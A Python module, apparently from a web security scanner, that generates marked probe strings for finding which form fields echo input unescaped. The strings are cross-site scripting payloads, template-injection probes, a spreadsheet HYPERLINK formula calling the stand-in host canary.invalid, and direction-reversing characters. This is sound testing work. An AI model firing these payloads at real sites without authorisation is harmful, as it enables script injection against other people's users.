"""Words that do something where they are not escaped: each says by its mark in which field it was typed."""

import re
from collections.abc import Iterator
from dataclasses import dataclass, field

ELSEWHERE = "canary.invalid"
"""A host that is not ours and is nowhere: whatever is asked of it was asked by a page."""

MARK = re.compile(r"c\d+q")
RECKONED = re.compile(r"c\d+q49")
"""What becomes of a mark with `{{7*7}}` behind it, where somebody's words are read as a template."""

_SCRIPT = "<script>canary('{m}')</script>"
_PICTURE = f"<img src=http://{ELSEWHERE}/{{m}} onerror=canary('{{m}}')>"
MIXED = "{m}{{{{7*7}}}}'\"></title></textarea>" + _SCRIPT + _PICTURE
DIALECTS: dict[str, tuple[str, ...]] = {
    "tags": (MIXED,),
    "attributes": (
        "{m}{{{{7*7}}}}' autofocus onfocus=canary('{m}') style='background:url(http://" + ELSEWHERE + "/{m})'"
        ' " onmouseover="canary(\'{m}\')" x="',
    ),
    "links": (
        "javascript:canary('{m}')//{{{{7*7}}}}[{m}](javascript:canary('{m}'))![{m}](http://" + ELSEWHERE + "/{m})",
    ),
    "drawings": (
        "{m}{{{{7*7}}}}<svg onload=canary('{m}')><style>*{{background:url(http://" + ELSEWHERE + "/{m})}}</style>"
        "<math><mtext></form><a href=javascript:canary('{m}')>",
    ),
    "formulas": ('=HYPERLINK("http://' + ELSEWHERE + '/{m}","{m}"){{{{7*7}}}}${{7*7}}<%= 7*7 %>#{{7*7}}' + _SCRIPT,),
}
WITHOUT_TEMPLATE = "{m}'\"></title></textarea>" + _SCRIPT + _PICTURE
SHORT = "{m}'\">" + _PICTURE
TINY = "{m}'\"><b onclick=canary('{m}')>"
TURNED = "\u202e{m}\u2066"
"""Characters that turn the direction of what follows; fields of one line refuse them."""


@dataclass
class Canaries:
    """The words for each field, in one dialect; and which mark stands for which field."""

    dialect: str = "tags"
    fields: dict[str, str] = field(default_factory=dict)
    _marks: dict[str, str] = field(default_factory=dict)

    def mark(self, name: str) -> str:
        if name not in self._marks:
            self._marks[name] = f"c{len(self._marks) + 1}q"
            self.fields[self._marks[name]] = name
        return self._marks[name]

    def words(self, name: str, *, turned: bool = False) -> Iterator[str]:
        """For this field, the sharpest first: where one is refused, the next may pass."""
        mark = self.mark(name)
        for words in (*DIALECTS[self.dialect], WITHOUT_TEMPLATE, SHORT, TINY):
            yield words.format(m=mark) + (TURNED.format(m=mark) if turned else "")

    def called(self, mark: str) -> str:
        """The field whose mark this is."""
        return self.fields.get(mark.removesuffix("49"), mark)
